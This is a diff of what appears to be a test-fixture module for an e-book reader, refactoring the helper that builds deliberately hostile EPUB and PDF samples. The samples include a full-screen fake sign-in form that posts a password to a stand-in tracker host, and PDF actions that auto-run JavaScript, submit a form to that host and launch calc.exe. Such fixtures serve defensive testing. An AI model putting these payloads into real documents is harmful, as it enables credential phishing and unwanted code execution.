@@ -1,4 +1,5 @@
 /** Hostile books, made here: an EPUB chapter and a PDF that try to run code, to call out and to deceive. */
+import { pdfOf, pdfStream } from './pdfFiles.ts';
 
 /** A chapter that tries everything at once: to run, to call out, to leave, to deceive. */
 export const hostileChapter = `<html xmlns="http://www.w3.org/1999/xhtml"><head><title>c</title>
@@ -18,22 +19,6 @@ parent.dispatchEvent(new CustomEvent('bookUpdated', { detail: { run: true } }));
 <form id="sign-in" action="https://tracker.invalid/form" style="position: fixed; inset: 0; z-index: 2147483647; background: white; inline-size: 200vw; block-size: 200vh">
 <h1>Sign in to Lectern</h1><input id="secret" type="password"/><button id="send">Sign In</button></form></body></html>`;
 
-/** Objects of a PDF, numbered from 1, with the first as its catalogue. */
-function pdfOf(objects: readonly string[]): Buffer {
-  let file = '%PDF-1.7\n';
-  const offsets = objects.map((object, index) => {
-    const at = file.length;
-    file += `${index + 1} 0 obj\n${object}\nendobj\n`;
-    return at;
-  });
-  const start = file.length;
-  const table = offsets.map((at) => `${String(at).padStart(10, '0')} 00000 n \n`).join('');
-  file += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${table}trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${start}\n%%EOF`;
-  return Buffer.from(file, 'latin1');
-}
-
-const stream = (text: string) => `<< /Length ${text.length} >>\nstream\n${text}\nendstream`;
-
 /**
  * A PDF that does things when it is opened, when its page is, and when its links are pressed; with code in its font.
  */
@@ -42,7 +27,7 @@ export const hostilePdf = (): Buffer =>
     '<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert("run"); this.submitForm("https://tracker.invalid/form")) /Next [<< /S /Launch /F (calc.exe) >> << /S /URI /URI (https://tracker.invalid/open) >>] >> /AA << /WC << /S /JavaScript /JS (app.alert(1)) >> >> /Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (app.alert("named")) >>] >> >> >>',
     '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
     '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 400 300] /Contents 4 0 R /Resources << /Font << /F1 5 0 R /F2 6 0 R >> >> /AA << /O << /S /JavaScript /JS (app.alert("page")) >> >> /Annots [7 0 R 8 0 R 9 0 R 10 0 R] >>',
-    stream(
+    pdfStream(
       'BT /F1 18 Tf 20 250 Td (Inert words of a trapped file.) Tj /F2 18 Tf 0 -40 Td (Code in a font) Tj ET',
     ),
     '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
